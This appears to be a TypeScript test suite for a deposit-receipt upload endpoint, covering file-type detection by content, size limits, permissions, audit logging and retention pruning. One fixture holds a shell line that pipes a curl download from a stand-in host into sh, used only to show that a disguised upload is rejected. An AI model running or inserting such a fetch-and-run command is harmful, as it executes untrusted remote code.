import assert from 'node:assert/strict'
import { test } from 'node:test'
import { pruneReceipts } from '../../src/settlement/receipts.service.ts'
import { withService, type ConfigOverrides, type TestService } from '../support/service.ts'
import {
  acceptBatch,
  as,
  createPeople,
  deposit,
  depositBody,
  getReceipt,
  JPEG,
  lineInvoice,
  PDF,
  PNG,
  putReceipt,
  settlementRows,
  type AuditRow,
  type Who,
} from '../support/settlement.ts'

/**
 * A deposit's receipt (PUT/GET depositos/{id}/comprobante): JPEG, PNG, WebP or PDF recognised by its
 * bytes; a file whose declared type or name says otherwise, an empty one, one over
 * settlement.maxReceiptMB: 422, nothing stored. Kept in the database; served inline (images) or as
 * an attachment (PDF) with nosniff; pruned after settlement.receiptRetentionDays, the record staying.
 * 905112 holds F-1 (OAC, L 100.00) with deposit 1; deposit 2 is cancelled.
 */
async function seed(service: TestService): Promise<void> {
  await acceptBatch(service, [lineInvoice('F-1', '905112', 'OAC', 100)])
  await createPeople(service)
  await deposit(service, '905112', depositBody(60))
  const cancelled = await deposit(service, '905112', depositBody(10))
  assert.equal(
    (await as(service, 'fin-oac', 'POST', `depositos/${cancelled}/anular`, { motivo: 'Registrado dos veces' })).status,
    200,
  )
}

const WEBP = Buffer.concat([
  Buffer.from('RIFF'),
  Buffer.from([0x24, 0, 0, 0]),
  Buffer.from('WEBPVP8 '),
  Buffer.alloc(24, 1),
])
const SCRIPT = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n')
const TINY = { settlement: { maxReceiptMB: 0.01 } } // 10,485 bytes
const padded = (head: Buffer, size: number) => Buffer.concat([head, Buffer.alloc(size - head.length, 0x20)])

interface Row {
  name: string
  who?: Who
  id?: string
  bytes: Buffer
  type?: string
  nombre?: string
  config?: ConfigOverrides
  status: number
  message?: string
  stored?: string
}

const rows: Row[] = [
  { name: 'an operator may not upload', who: 'op-oac', bytes: JPEG, status: 403 },
  {
    name: 'a PNG named .pdf',
    bytes: PNG,
    nombre: 'boleta.pdf',
    status: 422,
    message:
      'El archivo boleta.pdf se llama como un PDF pero su contenido es una imagen PNG: revise que sea el comprobante correcto.',
  },
  {
    name: 'a PNG sent as a PDF',
    bytes: PNG,
    type: 'application/pdf',
    status: 422,
    message:
      'El comprobante se envió como application/pdf pero su contenido es una imagen PNG: envíelo con su tipo real (Content-Type: image/png).',
  },
  {
    name: 'a script named .png',
    bytes: SCRIPT,
    type: 'image/png',
    nombre: 'boleta.png',
    status: 422,
    message:
      'El comprobante no es una foto JPEG, PNG o WebP ni un PDF (se reconoce por su contenido, no por su nombre): envíe la foto o el PDF de la boleta.',
  },
  {
    name: 'a JPEG named .exe',
    bytes: JPEG,
    nombre: 'boleta.exe',
    status: 422,
    message:
      'El archivo boleta.exe se llama como un .exe pero su contenido es una foto JPEG: revise que sea el comprobante correcto.',
  },
  {
    name: 'a GIF',
    bytes: Buffer.from('GIF89a\u0001\u0000\u0001\u0000'),
    type: 'image/gif',
    status: 422,
    message:
      'El comprobante no es una foto JPEG, PNG o WebP ni un PDF (se reconoce por su contenido, no por su nombre): envíe la foto o el PDF de la boleta.',
  },
  {
    name: 'a zero-byte file',
    bytes: Buffer.alloc(0),
    type: 'image/jpeg',
    status: 422,
    message: 'El comprobante llegó vacío (0 bytes): envíe la foto o el PDF de la boleta como cuerpo de la solicitud.',
  },
  {
    name: 'an oversize photo',
    config: TINY,
    bytes: padded(JPEG, 15_000),
    type: 'image/jpeg',
    status: 422,
    message:
      'El comprobante pesa 14.6 KB y el máximo es 10.2 KB (settlement.maxReceiptMB): reduzca la foto (la consola la achica sola) o envíe un PDF más liviano.',
  },
  {
    name: 'more than twice the maximum is not even read',
    config: TINY,
    bytes: padded(JPEG, 30_000),
    type: 'image/jpeg',
    status: 413,
  },
  { name: 'an unknown deposit', id: '99', bytes: JPEG, status: 404, message: 'No existe el depósito 99.' },
  {
    name: 'a cancelled deposit',
    id: '2',
    bytes: JPEG,
    status: 422,
    message: 'El depósito 2 está anulado: ya no se puede cambiar su comprobante. Registre uno nuevo si hace falta.',
  },
  {
    name: 'a JPEG photo',
    who: 'sup-oac',
    bytes: JPEG,
    type: 'image/jpeg',
    nombre: 'boleta.JPG',
    status: 200,
    stored: 'image/jpeg',
  },
  {
    name: 'a PNG declared as a stream of bytes',
    bytes: PNG,
    type: 'application/octet-stream',
    status: 200,
    stored: 'image/png',
  },
  { name: 'a WebP without a declared type', bytes: WEBP, status: 200, stored: 'image/webp' },
  {
    name: 'a PDF',
    who: 'fin-oac',
    bytes: PDF,
    type: 'application/pdf',
    nombre: 'boleta.pdf',
    status: 200,
    stored: 'application/pdf',
  },
  {
    name: 'just under the maximum',
    config: TINY,
    bytes: padded(JPEG, 10_485),
    type: 'image/jpeg',
    status: 200,
    stored: 'image/jpeg',
  },
]

for (const row of rows) {
  test(`receipts: ${row.name} → ${row.status}`, () =>
    withService({ config: row.config ?? {} }, async (service) => {
      await seed(service)
      const who = row.who ?? 'clave'
      await as(service, who, 'GET', 'resumen')
      const before = {
        rows: settlementRows(service),
        deposits: service.db.sqlite.prepare('SELECT * FROM deposits ORDER BY id').all(),
      }
      const answer = await putReceipt(service, who, row.id ?? '1', row.bytes, {
        ...(row.type ? { type: row.type } : {}),
        ...(row.nombre ? { nombre: row.nombre } : {}),
      })
      assert.equal(answer.status, row.status, JSON.stringify(answer.body))
      if (row.message !== undefined) assert.equal(answer.body.message, row.message)
      if (row.status !== 200) {
        assert.deepEqual(
          {
            rows: settlementRows(service),
            deposits: service.db.sqlite.prepare('SELECT * FROM deposits ORDER BY id').all(),
          },
          before,
          'nothing stored',
        )
        return
      }
      assert.deepEqual(answer.body.comprobante, {
        tipo: row.stored,
        bytes: row.bytes.length,
        subido_en: '2026-11-22 10:00:00',
        subido_por: who === 'clave' ? 'Ana Lucía Fiallos' : `Nombre de ${who}`,
        disponible: true,
        eliminado_en: null,
      })
      const read = await getReceipt(service, 'fin-oac', '1')
      const extension = { 'image/jpeg': 'jpg', 'image/png': 'png', 'image/webp': 'webp', 'application/pdf': 'pdf' }[
        row.stored!
      ]
      assert.deepEqual(
        [
          read.status,
          read.headers.get('content-type'),
          read.headers.get('content-disposition'),
          read.headers.get('x-content-type-options'),
          read.bytes.equals(row.bytes),
        ],
        [
          200,
          row.stored,
          `${row.stored === 'application/pdf' ? 'attachment' : 'inline'}; filename="deposito-1.${extension}"`,
          'nosniff',
          true,
        ],
      )
      const entry = service.db.sqlite
        .prepare('SELECT action, detail FROM audit_log ORDER BY id DESC LIMIT 1')
        .get() as AuditRow
      assert.deepEqual(
        [entry.action, JSON.parse(entry.detail)],
        [
          'deposito.comprobante',
          { manifiesto: '905112', almacen: 'OAC', tipo: row.stored, bytes: row.bytes.length, reemplaza: false },
        ],
      )
    }))
}

test('receipts: a new file replaces the one kept; one without a receipt says so', () =>
  withService({}, async (service) => {
    await seed(service)
    assert.deepEqual(await getReceipt(service, 'clave', '1').then((read) => read.status), 404)
    assert.equal((await putReceipt(service, 'clave', '1', JPEG)).status, 200)
    assert.equal((await putReceipt(service, 'clave', '1', PDF)).status, 200)
    const read = await getReceipt(service, 'clave', '1')
    assert.deepEqual(
      [read.headers.get('content-type'), read.bytes.equals(PDF), settlementRows(service).receipts],
      ['application/pdf', true, 1],
    )
    const missing = await as(service, 'clave', 'GET', 'depositos/2/comprobante')
    assert.deepEqual(missing, {
      status: 404,
      body: { success: false, message: 'El depósito 2 no tiene comprobante: súbalo con PUT depositos/2/comprobante.' },
    })
  }))

test('receipts: pruned after settlement.receiptRetentionDays, the deposit and its record stay', () =>
  withService({}, async (service) => {
    await seed(service)
    assert.equal((await putReceipt(service, 'clave', '1', JPEG)).status, 200)
    service.clock.set('2027-12-26T16:00:00Z') // 399 days later
    assert.equal(pruneReceipts({ db: service.db, clock: service.clock, config: service.config }), 0)
    service.clock.set('2027-12-28T16:00:00Z') // 401 days later
    assert.equal(pruneReceipts({ db: service.db, clock: service.clock, config: service.config }), 1)
    const deposit = await as(service, 'clave', 'GET', 'depositos/1')
    assert.deepEqual(deposit.body.comprobante, {
      tipo: 'image/jpeg',
      bytes: JPEG.length,
      subido_en: '2026-11-22 10:00:00',
      subido_por: 'Ana Lucía Fiallos',
      disponible: false,
      eliminado_en: '2027-12-28 10:00:00',
    })
    const read = await as(service, 'clave', 'GET', 'depositos/1/comprobante')
    assert.deepEqual(read, {
      status: 404,
      body: {
        success: false,
        message:
          'El comprobante del depósito 1 se eliminó el 2027-12-28 10:00:00 por la regla de retención (settlement.receiptRetentionDays = 400 días); el registro del depósito se conserva.',
      },
    })
    assert.equal(settlementRows(service).receipts, 0)
  }))

test('receipts: with settlement.receiptRetentionDays 0 they are kept for ever', () =>
  withService({ config: { settlement: { receiptRetentionDays: 0 } } }, async (service) => {
    await seed(service)
    assert.equal((await putReceipt(service, 'clave', '1', JPEG)).status, 200)
    service.clock.set('2036-11-22T16:00:00Z')
    assert.equal(pruneReceipts({ db: service.db, clock: service.clock, config: service.config }), 0)
    assert.equal((await getReceipt(service, 'clave', '1')).status, 200)
  }))
